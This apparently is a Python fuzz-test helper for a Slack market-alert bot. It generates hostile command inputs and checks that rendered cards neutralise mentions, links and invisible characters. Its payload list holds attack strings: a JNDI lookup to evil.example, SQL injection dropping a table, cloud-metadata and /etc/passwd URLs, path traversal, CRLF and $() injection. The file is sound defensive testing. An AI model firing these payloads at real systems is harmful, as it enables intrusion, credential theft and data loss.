"""What nobody means well with, and whether a card lets any of it have power."""

import json
import re
from collections.abc import Iterator

from hypothesis import strategies as st

from handlers.cards.card import Card

# The mark of whoever attacks: wherever it stands in a card, it must be nothing but words.
EVIL = "EVIL"
PIECES = (
    *("<!channel>", "<!here|EVIL>", "<!everyone>", "<!subteam^SEVIL>", "<!date^0^{date}|EVIL>"),
    *("<@UEVIL>", "<@UEVIL|trader>", "<#CEVIL|general>", "&lt;!channel&gt;", "&amp;lt;@UEVIL&amp;gt;"),
    *("<http://evil.example/EVIL|0700.HK>", "<mailto:a@evil.example|EVIL>", "http://169.254.169.254/latest/EVIL"),
    *("http://169.254.169.254", "file:///etc/passwd", "169.254.169.254", "../../etc/passwd", "%0d%0aEVIL: 1"),
    *("`EVIL`", "```EVIL```", "*EVIL*", "_EVIL_", "~EVIL~", "> EVIL", "[EVIL](http://evil.example)", ":EVIL:"),
    *("'; DROP TABLE alerts; --", '" OR 1=1 --', "%s%n{0}{EVIL}", "${jndi:ldap://evil.example/EVIL}", "$(EVIL)"),
    *("\u202eEVIL\u202c", "\u200bEVIL\u200d\ufeff", "\u2066EVIL\u2069", "\x00", "\x1b[31mEVIL", "\r\n\n\t", "\x7f\x85"),
    *("\ud800", "\udfff\ud83d", "\U0010ffff", "e\u0301" * 40, "مرحبا EVIL", "שלום", "﷽", "🇭🇰" * 20, "ﬃ", "１２３"),
    *("E" * 10_000, "<" * 300, "&" * 300, "`" * 301, "9" * 400, "-0", "nan", "inf", "1e999", "#-1", "#" + "9" * 40),
)
BEGINNINGS = (
    *("", "hsi ", "quote ", "$", "leaders ", "turnover ", "help ", "board ", "alerts ", "status ", "hsi up ", "700 "),
    *("alert ", "alert turnover above ", "alert hsi up 5% ", "alert remove ", "alert edit #1 ", "alert snooze #1 "),
    *("watch ", "watch baba up ", "watch edit #2 ", "watch remove ", "unwatch ", "unwatch #", "managers add "),
)
WORDS = st.builds(
    lambda beginning, parts: beginning + "".join(parts),
    st.sampled_from(BEGINNINGS),
    st.lists(st.sampled_from(PIECES) | st.text(max_size=20) | st.sampled_from((" ", "5%", "baba")), max_size=5),
)

# What Slack acts upon. Ours are times, and the people and channels that alerts belong to.
CONTROL = re.compile(r"<[^>]*>?")
OURS = re.compile(r"<!date\^\d+\^[^|<>]+\|[^|<>]+>|<@U0\w+>|<#C0\w+>")
INVISIBLE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
POWERFUL = ("user", "usergroup", "channel", "broadcast", "link", "image")


def powers(card: Card) -> list[str]:
    """Return each place in a card where somebody's words could do more than be read."""
    found = [f"text: {control}" for control in CONTROL.findall(card.text) if not OURS.fullmatch(control)]
    found += [f"invisible: {letter!r}" for letter in INVISIBLE.findall(card.text)]
    for part in _objects(list(card.blocks)):
        said = part.get("text")
        if isinstance(said, str):
            found += [f"invisible: {letter!r}" for letter in INVISIBLE.findall(said)]
            if part.get("type") == "mrkdwn":
                found += [f"mrkdwn: {control}" for control in CONTROL.findall(said) if not OURS.fullmatch(control)]
        if part.get("type") in POWERFUL or "url" in part or "image_url" in part:
            found.append(f"{part.get('type')}: {part}")
    return found


def escaped_twice(card: Card, typed: str) -> bool:
    """Whether an escape was escaped again; what was typed as one looks so rightly."""
    twice = re.search("&amp;(lt|gt|amp);", json.dumps([card.text, *card.blocks]))
    return twice is not None and not re.search("&(lt|gt|amp);", typed)


def _objects(value: object) -> Iterator[dict[str, object]]:
    if isinstance(value, dict):
        yield value
    inside = value.values() if isinstance(value, dict) else value if isinstance(value, list | tuple) else ()
    for part in inside:
        yield from _objects(part)
